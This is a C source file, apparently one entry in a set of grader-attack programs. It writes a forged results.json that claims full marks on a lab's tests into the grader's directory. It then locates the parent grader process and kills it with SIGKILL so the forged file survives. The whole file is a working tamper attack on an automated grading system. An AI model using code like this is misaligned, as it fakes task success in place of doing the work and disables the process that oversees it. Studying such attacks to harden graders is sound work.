/*
 * Forges the results: writes a full-marks results.json where the grader
 * keeps it (beside this program), then kills the grader that started it,
 * so that the forged file is the last one written.
 */
#include "attack.h"

#define FORGED "{\"lab\": \"01\", \"title\": \"forged\", \"score\": 115, \"max_score\": 115, " \
	"\"grader_version\": \"forged\", \"seed\": null, \"build_ok\": true, \"not_built\": [], " \
	"\"grader_errors\": 0, \"collection_errors\": [], \"tests\": [{\"name\": " \
	"\"test_echo_short_text\", \"title\": \"forged\", \"points\": 115, \"max_points\": 115, " \
	"\"status\": \"passed\", \"kind\": null, \"message\": \"\", \"details\": \"\", " \
	"\"doc\": \"\", \"hidden\": false, \"seed\": null, \"time\": 0, \"sections\": [], " \
	"\"report\": \"\"}]}\n"

void attack(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 32];
	ssize_t n = readlink("/proc/self/exe", dir, sizeof(dir) - 1);

	if (n > 0) {
		dir[n] = '\0';
		*strrchr(dir, '/') = '\0';
		snprintf(path, sizeof(path), "%s/results.json", dir);
		if (write_text(path, FORGED) == 0)
			attack_report("wrote %s", path);
	}
	pid_t graders[MAX_ROOTS];
	int count = grader_ancestors(graders, MAX_ROOTS);

	/* The nearest grader: the one whose results are being written. */
	if (count > 0 && kill(graders[0], SIGKILL) == 0)
		attack_report("killed the grader, pid %d", (int)graders[0]);
}
